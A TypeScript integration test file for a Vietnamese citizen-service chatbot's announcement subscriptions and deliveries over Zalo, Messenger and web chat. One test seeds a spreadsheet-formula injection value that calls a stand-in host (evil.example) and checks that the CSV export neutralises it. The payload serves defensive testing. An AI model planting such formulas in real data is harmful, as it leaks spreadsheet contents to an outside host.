import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import nock from 'nock';
import { chat } from '../support/server';
import { vi } from '../support/locale';
import { fakeGraph, messengerEnv, pageDelivery, postWebhook, textEvent } from '../support/messenger';
import { ADMIN, startAdminServer, type AdminServer } from '../admin/admin-server';
import { API_BASE, deliver, events, eventually, sentAnswer, userId, zaloEnv } from '../channels/zalo/zalo-support';

const HOUR = 3600_000;

describe('announcements on every channel (real server, nock at Zalo and Facebook)', function () {
  // Starting a whole assistant takes seconds on a busy shared machine.
  this.timeout(60_000);
  let server: AdminServer;
  let propaganda: string;
  before(async () => {
    nock.disableNetConnect();
    nock.enableNetConnect('127.0.0.1');
    server = await startAdminServer({ ...zaloEnv(), ...messengerEnv, ANNOUNCEMENT_POLL_SECONDS: '0.05', ANNOUNCEMENT_ZALO_PER_SECOND: '0', ANNOUNCEMENT_MESSENGER_PER_SECOND: '0' });
    propaganda = await server.staff('news1', ['propaganda']);
  });
  afterEach(() => nock.cleanAll());
  after(async () => {
    await server.close();
    nock.enableNetConnect();
  });

  const store = () => server.running.assistant.store;
  const api = (method: string, path: string, json?: unknown) => server.call(method, path, { token: propaganda, json });
  /** Zalo answers every consultation; `refuse` names users it refuses with a permanent error (-201: invalid parameters). */
  function zaloInbox(refuse: readonly string[] = []) {
    const sent: { userId: string; text: string }[] = [];
    nock(API_BASE)
      .persist()
      .post('/v3.0/oa/message/cs')
      .reply((_uri, body) => {
        const { recipient, message } = body as { recipient: { user_id: string }; message: { text: string } };
        sent.push({ userId: recipient.user_id, text: message.text });
        return [200, refuse.includes(recipient.user_id) ? { error: -201, message: 'Parameters are invalid' } : sentAnswer()];
      });
    return sent;
  }
  async function finished(id: string) {
    let body: any;
    await eventually(async () => {
      body = (await api('GET', `/api/admin/announcements/${id}`)).body;
      return body.announcement.status === 'done';
    }, `announcement ${id} done`, 40_000); // a thousand sends through nock take over 10 s at load 20 on this shared machine
    return body;
  }

  describe('subscribing in chat', () => {
    it('subscribes a web-chat citizen in one message, refines by topic with buttons, and unsubscribes in one, confirmed', async () => {
      const url = server.url;
      const [first] = await chat(url, 'web-sub-1', 'đăng ký nhận thông báo');
      assert.equal(first!.text, vi('announcement:subscribed', { topics: vi('announcement:allTopics') }));
      const titles = (first!.buttons ?? []).map((b) => b.title);
      assert.deepEqual(titles.slice(0, 4), ['new_procedures', 'scam_alerts', 'fire_safety', 'traffic'].map((k) => vi(`announcement:topics.${k}`)));
      assert.deepEqual((await store().contacts.get({ channel: 'rest', userId: 'web-sub-1' }))?.subscription?.topics, []);

      const scam = first!.buttons!.find((b) => b.title === vi('announcement:topics.scam_alerts'))!;
      const [added] = await chat(url, 'web-sub-1', scam.payload);
      assert.ok(added!.text.startsWith(vi('announcement:topicAdded', { topic: vi('announcement:topics.scam_alerts'), topics: vi('announcement:topics.scam_alerts') })), added!.text);
      assert.deepEqual((await store().contacts.get({ channel: 'rest', userId: 'web-sub-1' }))?.subscription?.topics, ['scam_alerts']);

      const [stop] = await chat(url, 'web-sub-1', 'hủy nhận thông báo');
      assert.equal(stop!.text, vi('announcement:unsubscribed'));
      assert.equal((await store().contacts.get({ channel: 'rest', userId: 'web-sub-1' }))?.subscription, undefined);
      const [again] = await chat(url, 'web-sub-1', 'hủy nhận thông báo');
      assert.equal(again!.text, vi('announcement:notSubscribed'));
    });

    it('adds a commune the citizen names', async () => {
      const place = server.running.assistant.knowledge.current().locationEntries().find((p) => p.id === 'phuong-phan-dinh-phung')!;
      await chat(server.url, 'web-sub-2', 'đăng ký nhận thông báo');
      const [answer] = await chat(server.url, 'web-sub-2', 'nhận thông báo phường Phan Đình Phùng');
      assert.equal(answer!.text, vi('announcement:communeChosen', { commune: place.names[0] }));
      assert.deepEqual((await store().contacts.get({ channel: 'rest', userId: 'web-sub-2' }))?.subscription?.communes, [place.id]);
    });

    it('subscribes a Zalo citizen, with the choices as a numbered menu Zalo can show', async () => {
      const sent = zaloInbox();
      const user = userId();
      assert.equal((await deliver(server.url, events.text(user, 'dang ky nhan thong bao'))).status, 200);
      await eventually(() => sent.some((s) => s.userId === user), 'the Zalo answer');
      const text = sent.find((s) => s.userId === user)!.text;
      assert.ok(text.startsWith(vi('announcement:subscribed', { topics: vi('announcement:allTopics') })), text);
      assert.ok(text.includes(`${vi('zalo:menuHint')}\n1. ${vi('announcement:topics.new_procedures')}\n2. ${vi('announcement:topics.scam_alerts')}`), text);
      await eventually(async () => (await store().contacts.get({ channel: 'zalo', userId: user }))?.subscription !== undefined, 'the subscription');

      assert.equal((await deliver(server.url, events.text(user, '2'))).status, 200, 'the number picks the topic');
      await eventually(async () => (await store().contacts.get({ channel: 'zalo', userId: user }))?.subscription?.topics.includes('scam_alerts') ?? false, 'topic by number');
      assert.equal((await deliver(server.url, events.text(user, 'hủy nhận thông báo'))).status, 200);
      await eventually(() => sent.some((s) => s.userId === user && s.text.startsWith(vi('announcement:unsubscribed'))), 'the confirmation');
      assert.equal((await store().contacts.get({ channel: 'zalo', userId: user }))?.subscription, undefined);
    });

    it('subscribes a Messenger citizen, with the topics as quick replies', async () => {
      const graph = fakeGraph();
      const psid = `psid-sub-${Date.now()}`;
      assert.equal((await postWebhook(server.url, pageDelivery([textEvent(psid, 'tôi muốn đăng ký nhận thông báo')]))).status, 200);
      await eventually(() => graph.messages().length > 0, 'the Messenger answer');
      const message = graph.messages()[0]!.message as { text: string; quick_replies: { title: string; payload: string }[] };
      assert.ok(message.text.startsWith(vi('announcement:subscribed', { topics: vi('announcement:allTopics') })));
      assert.ok(message.quick_replies.some((q) => q.payload === '/subscribe{"announcement_topic":"traffic"}'));
      await eventually(async () => (await store().contacts.get({ channel: 'messenger', userId: psid }))?.subscription !== undefined, 'the subscription');
    });
  });

  describe('delivery', () => {
    it('sends inside each platform\'s window, keeps the rest for their next message, never messages those who left, and reports it all', async () => {
      const now = Date.now();
      const c = store().contacts;
      const seed = async (channel: string, id: string, ageMs: number, change: { following?: boolean } = {}) => {
        const user = { channel, userId: id };
        await c.recordInteraction(user, new Date(now - ageMs), change);
        await c.subscribe(user, { topics: ['scam_alerts'], communes: [] }, new Date(now - ageMs));
        return user;
      };
      const tag = `d${now}`;
      await seed('zalo', `${tag}-z-fresh`, 2 * HOUR);
      await seed('zalo', `${tag}-z-refused`, 2 * HOUR);
      await seed('zalo', `${tag}-z-old`, 8 * 24 * HOUR);
      await seed('zalo', `${tag}-z-left`, HOUR, { following: false });
      await c.markUnreachable(await seed('zalo', `${tag}-z-blocked`, HOUR), new Date(now));
      await seed('messenger', `${tag}-m-fresh`, HOUR);
      await seed('messenger', `${tag}-m-old`, 25 * HOUR);
      await seed('rest', `${tag}-w`, HOUR);
      // Other topics' subscribers are not in this audience.
      await c.recordInteraction({ channel: 'zalo', userId: `${tag}-z-traffic` }, new Date(now));
      await c.subscribe({ channel: 'zalo', userId: `${tag}-z-traffic` }, { topics: ['traffic'], communes: [] }, new Date(now));

      const draft = { title: `Cảnh báo ${tag}`, body: 'Không chuyển tiền cho người tự xưng cán bộ công an qua điện thoại.', topics: ['scam_alerts'], channels: [], communes: [] };
      const audience = await api('POST', '/api/admin/announcements/audience', { topics: ['scam_alerts'] });
      assert.equal(audience.status, 200);
      const created = await api('POST', '/api/admin/announcements', draft);
      assert.equal(created.status, 201, JSON.stringify(created.body));
      const id = created.body.announcement.id as string;
      assert.equal(created.body.announcement.author, 'staff:news1');

      const zalo = zaloInbox([`${tag}-z-refused`]);
      const graph = fakeGraph();
      const started = await api('POST', `/api/admin/announcements/${id}/send`);
      assert.equal(started.status, 202);
      assert.equal((await api('POST', `/api/admin/announcements/${id}/send`)).status, 409, 'a second send is refused');
      const { report } = await finished(id);

      const mine = (list: { userId: string }[]) => list.filter((s) => s.userId.startsWith(tag)).map((s) => s.userId).sort();
      assert.deepEqual(mine(zalo), [`${tag}-z-fresh`, `${tag}-z-refused`], 'Zalo: only inside 7 days, never the unfollowed or blocked');
      const fbSends = graph.messages().filter((m) => String((m.recipient as { id: string }).id).startsWith(tag));
      assert.deepEqual(fbSends.map((m) => [(m.recipient as { id: string }).id, m.messaging_type]), [[`${tag}-m-fresh`, 'UPDATE']], 'Messenger: inside 24 h, no tag');
      assert.ok(zalo.find((s) => s.userId === `${tag}-z-fresh`)!.text.startsWith(vi('announcement:message', { title: draft.title, body: draft.body })));
      // Earlier tests' subscribers (all topics) are in the audience too: this test's own rows are checked one by one.
      const rows = await store().announcements.deliveries(id, 500);
      const outcomes = Object.fromEntries(rows.filter((r) => r.userId.startsWith(tag)).map((r) => [r.userId.slice(tag.length + 1), r.reason ? `${r.outcome} ${r.reason}` : r.outcome]));
      assert.deepEqual(outcomes, {
        'm-fresh': 'sent',
        'm-old': 'skipped window_closed',
        w: 'skipped next_visit',
        'z-fresh': 'sent',
        'z-old': 'skipped window_closed',
        'z-refused': 'failed rejected:-201',
      });
      assert.equal(report.total, rows.length);
      assert.equal(report.pending + report.attempting, 0);
      assert.equal(report.failed['rejected:-201'], 1);
      assert.equal(report.sent + Object.values(report.skipped).reduce((a: number, b) => a + Number(b), 0) + 1, rows.length);

      // The web visitor and the Messenger citizen outside the window see it at the top of their next answer.
      const [top] = await chat(server.url, `${tag}-w`, 'xin chào');
      assert.ok(top!.text.startsWith(`📢 ${draft.title} (`), top!.text);
      assert.equal((await chat(server.url, `${tag}-w`, 'xin chào'))[0]!.text.startsWith('📢'), false, 'shown once');
      const before = graph.messages().length;
      assert.equal((await postWebhook(server.url, pageDelivery([textEvent(`${tag}-m-old`, 'xin chào')]))).status, 200);
      await eventually(() => graph.messages().length > before, 'the Messenger answer');
      const first = graph.messages()[before]!.message as { text?: string; attachment?: { payload: { text: string } } };
      assert.ok((first.text ?? first.attachment?.payload.text ?? '').startsWith(`📢 ${draft.title}`), JSON.stringify(first));

      const audit = await store().audit.list({ limit: 50 });
      assert.ok(audit.some((e) => e.action === 'announcement.send' && e.target === `announcement:${id}` && e.actor === 'staff:news1'));
    });

    it('retries a Zalo rate limit and counts the recipient once', async () => {
      const now = Date.now();
      const user = { channel: 'zalo', userId: `rl${now}` };
      await store().contacts.recordInteraction(user, new Date(now));
      await store().contacts.subscribe(user, { topics: [], communes: [] }, new Date(now));
      let calls = 0;
      nock(API_BASE).persist().post('/v3.0/oa/message/cs').reply(() => {
        calls += 1;
        return [200, calls === 1 ? { error: -32, message: 'Request limit exceeded' } : sentAnswer()];
      });
      const { body } = await api('POST', '/api/admin/announcements', { title: `Giới hạn ${now}`, body: 'Nội dung', channels: ['zalo'], topics: [], communes: [] });
      await api('POST', `/api/admin/announcements/${body.announcement.id}/send`);
      const done = await finished(body.announcement.id);
      assert.ok(done.report.sent >= 1);
      const rows = await store().announcements.deliveries(body.announcement.id, 500);
      assert.deepEqual(rows.filter((r) => r.userId === user.userId).map((r) => r.outcome), ['sent']);
    });

    it('takes a Zalo citizen\'s "1" after an announcement as its first button (unsubscribe), with no menu written per recipient', async () => {
      const sent = zaloInbox();
      const user = userId();
      const commune = `menu-${Date.now()}`;
      // The citizen's last answer before the announcement had another numbered menu: "1" was a topic there.
      assert.equal((await deliver(server.url, events.text(user, 'dang ky nhan thong bao'))).status, 200);
      await eventually(async () => (await store().contacts.get({ channel: 'zalo', userId: user }))?.subscription !== undefined, 'the subscription');
      await store().contacts.subscribe({ channel: 'zalo', userId: user }, { topics: [], communes: [commune] }, new Date());
      const menuKey = `zalo-menu/${user}`;
      await eventually(async () => (await store().state.read(menuKey)) !== undefined, 'the subscribe answer\'s menu remembered');
      const before = (await store().state.read(menuKey))!;

      const { body } = await api('POST', '/api/admin/announcements', { title: `Menu ${commune}`, body: 'Nội dung', channels: ['zalo'], topics: [], communes: [commune] });
      await api('POST', `/api/admin/announcements/${body.announcement.id}/send`);
      await finished(body.announcement.id);
      const announcement = sent.filter((s) => s.userId === user).at(-1)!.text;
      assert.ok(announcement.includes(`${vi('zalo:menuHint')}\n1. ${vi('announcement:buttons.unsubscribe')}`), announcement);
      assert.equal((await store().state.read(menuKey))?.eTag, before.eTag, 'the send wrote no menu');

      assert.equal((await deliver(server.url, events.text(user, '1'))).status, 200);
      await eventually(() => sent.some((s) => s.userId === user && s.text.startsWith(vi('announcement:unsubscribed'))), 'the unsubscribe confirmation');
      assert.equal((await store().contacts.get({ channel: 'zalo', userId: user }))?.subscription, undefined);
      // The confirmation's own menu is newer than the announcement: "1" now means what that answer listed.
      await eventually(async () => (await store().state.read(menuKey))?.eTag !== before.eTag, 'the confirmation\'s menu remembered');
    });

    it('cancelled mid-send: the worker stops after the chunk under way, and every unsent recipient is counted "cancelled"', async () => {
      const now = Date.now();
      const commune = `cancel-${now}`;
      const RECIPIENTS = 120;
      for (let i = 0; i < RECIPIENTS; i++) {
        const user = { channel: 'zalo', userId: `cx${now}-${String(i).padStart(3, '0')}` };
        await store().contacts.recordInteraction(user, new Date(now));
        await store().contacts.subscribe(user, { topics: [], communes: [commune] }, new Date(now));
      }
      // Zalo holds the fifth message until staff have cancelled: the send is caught in the middle.
      let calls = 0;
      let release!: () => void;
      const cancelled = new Promise<void>((resolve) => (release = resolve));
      let held!: () => void;
      const holding = new Promise<void>((resolve) => (held = resolve));
      nock(API_BASE)
        .persist()
        .post('/v3.0/oa/message/cs')
        .reply(async () => {
          calls += 1;
          if (calls === 5) {
            held();
            await cancelled;
          }
          return [200, sentAnswer()];
        });
      const { body } = await api('POST', '/api/admin/announcements', { title: `Hủy giữa chừng ${now}`, body: 'Nội dung', channels: ['zalo'], topics: [], communes: [commune] });
      const id = body.announcement.id as string;
      assert.equal((await api('POST', `/api/admin/announcements/${id}/send`)).status, 202);
      await holding;
      const cancel = await api('POST', `/api/admin/announcements/${id}/cancel`);
      assert.equal(cancel.body.announcement.status, 'cancelled');
      release();
      await server.running.assistant.announcements.runner.idle();

      const { report, announcement } = (await api('GET', `/api/admin/announcements/${id}`)).body;
      assert.equal(announcement.status, 'cancelled');
      assert.equal(report.total, RECIPIENTS);
      assert.equal(report.pending + report.attempting, 0, 'nobody left pending');
      assert.equal(report.sent, calls, 'every message Zalo got is counted sent');
      assert.equal(report.skipped.cancelled, RECIPIENTS - calls, JSON.stringify(report));
      assert.ok(calls <= 16, `stopped within the chunk under way (ANNOUNCEMENT_CONCURRENCY 16): ${calls} sent`);
      const audit = await store().audit.list({ limit: 20 });
      assert.ok(audit.some((e) => e.action === 'announcement.cancel' && e.target === `announcement:${id}`));
    });

    it('downloads the delivery report as CSV with Vietnamese headers and words, paged, and no cell a spreadsheet would run', async () => {
      const now = Date.now();
      const commune = `csv-${now}`;
      const seed = async (channel: string, id: string) => {
        const user = { channel, userId: id };
        await store().contacts.recordInteraction(user, new Date(now));
        await store().contacts.subscribe(user, { topics: [], communes: [commune] }, new Date(now));
      };
      // A web visitor chooses their own id: this one is a spreadsheet formula.
      const formula = `=HYPERLINK("http://evil.example/?"&A1;"x")${now}`;
      await seed('rest', formula);
      await seed('zalo', `csv${now}-refused`);
      // More rows than one page of the download (1000).
      for (let i = 0; i < 1005; i++) await seed('zalo', `csv${now}-${String(i).padStart(4, '0')}`);
      zaloInbox([`csv${now}-refused`]);
      const { body } = await api('POST', '/api/admin/announcements', { title: `CSV ${now}`, body: 'Nội dung', channels: [], topics: [], communes: [commune] });
      const id = body.announcement.id as string;
      await api('POST', `/api/admin/announcements/${id}/send`);
      await finished(id);

      const csv = await api('GET', `/api/admin/announcements/${id}/deliveries.csv`);
      assert.equal(csv.status, 200);
      assert.match(csv.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
      assert.match(csv.headers.get('content-disposition') ?? '', /attachment; filename="ket-qua-gui-thong-bao-[\w-]+\.csv"/);
      const rows = parse(csv.body as string, { bom: true }) as string[][];
      assert.deepEqual(rows[0], ['channel', 'recipient', 'outcome', 'reason', 'updatedAt'].map((c) => vi(`console:deliveries.columns.${c}`)));
      assert.equal(rows.length, 1 + 1007, 'every recipient once, across pages');
      assert.equal(new Set(rows.slice(1).map((r) => r[1])).size, 1007);
      const byId = new Map(rows.slice(1).map((r) => [r[1], r]));
      assert.deepEqual(byId.get(`'${formula}`)?.slice(0, 4), [vi('console:channels.rest'), `'${formula}`, vi('console:deliveries.outcomes.skipped'), vi('console:deliveries.reasons.next_visit')], 'the formula is neutralised');
      assert.deepEqual(byId.get(`csv${now}-refused`)?.slice(0, 4), [
        vi('console:channels.zalo'),
        `csv${now}-refused`,
        vi('console:deliveries.outcomes.failed'),
        vi('console:deliveries.platformCode', { reason: vi('console:deliveries.reasons.rejected'), code: '-201' }),
      ]);
      assert.deepEqual(byId.get(`csv${now}-0000`)?.slice(2, 4), [vi('console:deliveries.outcomes.sent'), '']);
      assert.match(byId.get(`csv${now}-0000`)![4]!, /^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}:\d{2}$/);
      for (const cells of rows) for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@]/, cell);
      assert.equal((await api('GET', '/api/admin/announcements/no-such-id/deliveries.csv')).status, 404);
      assert.equal((await server.call('GET', `/api/admin/announcements/${id}/deliveries.csv`)).status, 401);
    });

    it('starts a scheduled announcement at its time, and refuses a time already past', async () => {
      zaloInbox();
      fakeGraph();
      const { body } = await api('POST', '/api/admin/announcements', { title: 'Hẹn giờ', body: 'Nội dung', channels: ['rest'], topics: [], communes: [] });
      const id = body.announcement.id as string;
      const past = await api('POST', `/api/admin/announcements/${id}/schedule`, { at: new Date(Date.now() - 60_000).toISOString() });
      assert.equal(past.status, 400);
      const bad = await api('POST', `/api/admin/announcements/${id}/schedule`, { at: 'tomorrow' });
      assert.equal(bad.status, 400);
      // Far enough ahead that the request reaches the server before the time, however slow the machine.
      const scheduled = await api('POST', `/api/admin/announcements/${id}/schedule`, { at: new Date(Date.now() + 2000).toISOString() });
      assert.equal(scheduled.body.announcement.status, 'scheduled', JSON.stringify(scheduled.body));
      await finished(id);
    });

    it('does not offer the Zalo article broadcast unless ZALO_ARTICLE_BROADCAST is on, and never calls Zalo for it', async () => {
      assert.equal((await api('GET', '/api/admin/announcements/options')).body.zaloArticle, false);
      const { body } = await api('POST', '/api/admin/announcements', { title: 'Bài viết', body: 'Nội dung', channels: ['zalo'], topics: [], communes: [] });
      const scope = nock(API_BASE).post('/v2.0/oa/message').reply(200, { error: 0, data: { message_id: 'never' } });
      const answer = await api('POST', `/api/admin/announcements/${body.announcement.id}/zalo-article`, { articleId: 'a1b2c3' });
      assert.equal(answer.status, 409);
      assert.equal(answer.body.error.details.reason, 'off');
      assert.equal(scope.isDone(), false);
    });

    it('cancels a draft once, then answers 409 and 404 as it should', async () => {
      const { body } = await api('POST', '/api/admin/announcements', { title: 'Hủy', body: 'Nội dung', channels: [], topics: [], communes: [] });
      assert.equal((await api('POST', `/api/admin/announcements/${body.announcement.id}/cancel`)).body.announcement.status, 'cancelled');
      assert.equal((await api('POST', `/api/admin/announcements/${body.announcement.id}/cancel`)).status, 409);
      assert.equal((await api('PUT', `/api/admin/announcements/${body.announcement.id}`, { title: 'x', body: 'y' })).status, 409);
      assert.equal((await api('POST', '/api/admin/announcements/no-such-id/send')).status, 404);
      const invalid = await api('POST', '/api/admin/announcements', { title: '', body: 'x', topics: ['weather'] });
      assert.equal(invalid.status, 400);
      assert.match(invalid.body.error.message, /"title"/);
      assert.match(invalid.body.error.message, /"topics.0"/);
    });
  });

  it('lets only propaganda staff and admins write, and audits each write', async () => {
    const others = [await server.staff('editor-a', ['editor']), await server.staff('desk-a', ['desk'])];
    const draft = { title: 'Vai trò', body: 'Nội dung', channels: [], topics: [], communes: [] };
    for (const token of others) assert.equal((await server.call('POST', '/api/admin/announcements', { token, json: draft })).status, 403);
    const admin = await server.login(ADMIN.username, ADMIN.password);
    const made = await server.call('POST', '/api/admin/announcements', { token: admin, json: draft });
    assert.equal(made.status, 201);
    await server.call('POST', `/api/admin/announcements/${made.body.announcement.id}/cancel`, { token: admin });
    const audit = await store().audit.list({ limit: 50 });
    const mine = audit.filter((e) => e.target === `announcement:${made.body.announcement.id}`).map((e) => [e.actor, e.action]);
    assert.deepEqual(mine.sort(), [[`staff:${ADMIN.username}`, 'announcement.cancel'], [`staff:${ADMIN.username}`, 'announcement.create']]);
  });

  describe('what staff and citizens see', () => {
    it('previews an announcement exactly as Zalo, Messenger and the web chat draw it', async () => {
      const { status, body } = await api('POST', '/api/admin/announcements/preview', { title: 'Thủ tục mới', body: 'Từ 1/3/2025 công an cấp lý lịch tư pháp.' });
      assert.equal(status, 200);
      assert.ok(body.preview.zalo[0].text.startsWith('📢 Thủ tục mới'));
      assert.ok(body.preview.zalo[0].text.includes(`${vi('zalo:menuHint')}\n1. ${vi('announcement:buttons.unsubscribe')}`));
      assert.equal(body.preview.messenger[0].attachment.payload.template_type, 'button');
      assert.deepEqual(body.preview.web.buttons.map((b: { payload: string }) => b.payload), ['/unsubscribe', '/help']);
    });

    it('answers "có thông báo gì mới không" with the latest sent announcements, and shows one whole on a tap', async () => {
      const replies = await chat(server.url, 'news-reader', 'có thông báo gì mới không');
      assert.ok(replies[0]!.text.startsWith(vi('announcement:news.intro')), replies[0]!.text);
      const sent = (await store().announcements.list(5, ['sending', 'done']))[0]!;
      assert.ok(replies[0]!.text.includes(sent.title));
      const tap = replies[0]!.buttons!.find((b) => b.title === sent.title)!;
      const [whole] = await chat(server.url, 'news-reader', tap.payload);
      assert.ok(whole!.text.includes(sent.body));
    });

    it('lists sent announcements on the public page, escaped, with nobody\'s data', async () => {
      const { body } = await api('POST', '/api/admin/announcements', { title: '<b>Giờ làm việc</b>', body: 'Dòng 1\nDòng 2', channels: ['rest'], topics: ['new_procedures'], communes: [] });
      const draft = await api('POST', '/api/admin/announcements', { title: 'Bản nháp bí mật', body: 'x', channels: [], topics: [], communes: [] });
      assert.equal(draft.status, 201);
      // Drawn and kept before the announcement goes out: publishing it must make the page drawn anew.
      assert.ok(!(await (await fetch(`${server.url}/thong-bao`)).text()).includes('Giờ làm việc'));
      await api('POST', `/api/admin/announcements/${body.announcement.id}/send`);
      await finished(body.announcement.id);
      const res = await fetch(`${server.url}/thong-bao`);
      assert.equal(res.status, 200);
      assert.match(res.headers.get('content-type') ?? '', /text\/html/);
      const html = await res.text();
      assert.ok(html.includes('&lt;b&gt;Giờ làm việc&lt;/b&gt;'));
      assert.ok(!html.includes('<b>Giờ'));
      assert.ok(html.includes(vi('announcement:topics.new_procedures')));
      assert.ok(!html.includes('Bản nháp bí mật'), 'drafts are not public');
      assert.ok(!html.includes('news1') && !html.includes(ADMIN.username), 'no author');
    });
  });
});
